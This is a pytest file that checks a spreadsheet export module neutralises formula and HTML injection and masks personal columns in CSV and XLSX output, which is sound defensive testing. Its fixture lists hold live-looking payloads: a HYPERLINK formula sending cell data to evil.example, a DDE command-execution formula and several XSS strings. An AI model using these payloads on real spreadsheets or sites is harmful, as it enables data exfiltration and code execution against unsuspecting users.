"""Safe exports: formula and HTML injection inert in CSV and XLSX, personal columns masked."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tracelab.io.exports import neutralise, safe_frame, write_csv, write_xlsx
from tracelab.model import schema as s

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example/?d="&A2,"点击")', "=cmd|' /C calc'!A0",
    " =1+1", "＝1+1", "-", "=",
]
HTML = ['<script>alert("x")</script>', "<img src=x onerror=alert(1)>",
        "好又多超市<b>", "芦溪镇建设路1号 & <a href='javascript:alert(1)'>"]
PHONE, RID = "13123456789", "360323200106151237"


def _frame(values):
    return pd.DataFrame({
        s.VENUE_ID: [f"V{i}" for i in range(len(values))],
        s.NAME: values,
        s.OWNER_NAME: ["李建国"] * len(values),
        s.OWNER_ID_KIND: [s.RESIDENT_ID] * len(values),
        s.OWNER_ID: [RID] * len(values),
        s.APPLICANT_PHONE: [PHONE] * len(values),
        s.LON: [-114.03] * len(values),
        "n": list(range(-1, len(values) - 1)),
    })


def _csv_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_prefixes_formulas(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HTML, "超市", "V1", "", "a=b", "'=quoted"])
def test_neutralise_leaves_other_text(value):
    assert neutralise(value) == value


def test_csv_formulas_and_html_come_out_inert(tmp_path):
    frame = _frame(FORMULAS + HTML)
    before = frame.copy()
    path = write_csv(frame, tmp_path / "x.csv")
    pd.testing.assert_frame_equal(frame, before)
    rows = _csv_rows(path)
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + v for v in FORMULAS] + HTML
    assert all(not r[1].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows[1:])
    assert [r[-1] for r in rows[1:3]] == ["-1", "0"]  # numbers stay numbers
    assert rows[1][6] == "-114.03"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_xlsx_formulas_and_html_come_out_inert(tmp_path):
    frame = _frame(FORMULAS + HTML)
    path = write_xlsx(frame, tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert header[:2] == [s.VENUE_ID, s.NAME]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    for cell, value in zip(cells, FORMULAS + HTML, strict=True):
        assert cell.data_type == "s"
        expected = "'" + value if value in FORMULAS else value
        # XML parsers read a stored carriage return back as a line feed
        assert cell.value == expected.replace("\r", "\n")
    assert all(c.value.startswith("'") for c in cells[:len(FORMULAS)])
    numbers = [(row[6].value, row[6].data_type, row[7].value) for row in sheet.iter_rows(min_row=2)]
    assert numbers[0] == (-114.03, "n", -1)


def test_no_formula_in_the_xlsx_xml(tmp_path):
    path = write_xlsx(_frame(FORMULAS), tmp_path / "x.xlsx")
    import zipfile
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


@pytest.mark.parametrize("writer", [write_csv, write_xlsx])
def test_personal_columns_masked_unless_asked(tmp_path, writer):
    frame = _frame(["超市"])
    path = writer(frame, tmp_path / f"x.{'csv' if writer is write_csv else 'xlsx'}")
    if writer is write_csv:
        text = path.read_text(encoding="utf-8-sig")
    else:
        text = repr([[c.value for c in r] for r in openpyxl.load_workbook(path).active.rows])
    for raw in (PHONE, RID, "李建国"):
        assert raw not in text
    assert "131*****789" in text and "李**" in text
    kept = writer(frame, tmp_path / f"y.{path.suffix[1:]}", keep_personal=[s.APPLICANT_PHONE])
    if writer is write_csv:
        assert PHONE in kept.read_text(encoding="utf-8-sig")
        assert RID not in kept.read_text(encoding="utf-8-sig")


def test_keep_personal_checks_columns():
    with pytest.raises(ValueError, match="keep_personal"):
        safe_frame(_frame(["x"]), keep_personal=["nope"])
    assert safe_frame(_frame(["x"]), keep_personal=True)[s.OWNER_ID].iloc[0] == RID


def test_headers_times_and_control_characters(tmp_path):
    frame = pd.DataFrame({"=evil": ["a\x00b"],
                          s.SCANNED_AT: pd.to_datetime(["2022-11-20T00:05:00Z"]),
                          "missing": [None]})
    sheet = openpyxl.load_workbook(write_xlsx(frame, tmp_path / "x.xlsx")).active
    assert [c.value for c in sheet[1]] == ["'=evil", "scanned_at (Asia/Shanghai)", "missing"]
    row = [c.value for c in sheet[2]]
    assert row[0] == "a\ufffdb"
    assert row[1] == pd.Timestamp("2022-11-20T08:05:00").to_pydatetime()
    assert row[2] is None
    rows = _csv_rows(write_csv(frame, tmp_path / "x.csv"))
    assert rows[0][0] == "'=evil" and rows[1][1] == "2022-11-20 00:05:00+00:00"


def test_free_text_is_scrubbed_but_codes_are_not(tmp_path):
    frame = pd.DataFrame({s.VENUE_ID: ["36032310100001"], s.OWNER_ID: ["360323600012341"],
                          s.OWNER_ID_KIND: [s.REGNO],
                          s.WHY: [f"{PHONE} shared V1 with {RID}"],
                          s.NAME: [f"小吃 {PHONE}"]})
    rows = _csv_rows(write_csv(frame, tmp_path / "x.csv"))
    assert rows[1][:3] == ["36032310100001", "360323600012341", s.REGNO]
    assert rows[1][3] == "131*****789 shared V1 with 36**************37"
    assert rows[1][4] == "小吃 131*****789"
    kept = safe_frame(frame, keep_personal=[s.WHY])
    assert kept[s.WHY].iloc[0] == frame[s.WHY].iloc[0]


_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)


@settings(max_examples=200, deadline=None)
@given(st.lists(_TEXT, min_size=1, max_size=5))
def test_any_text_round_trips_inert_through_csv(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("h") / "x.csv"
    write_csv(pd.DataFrame({"text": values}), path)
    rows = _csv_rows(path)
    assert len(rows) == len(values) + 1
    for (cell,), value in zip(rows[1:], values, strict=True):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
        expected = str(neutralise(value))
        assert cell == expected or (cell == "" and value == "")
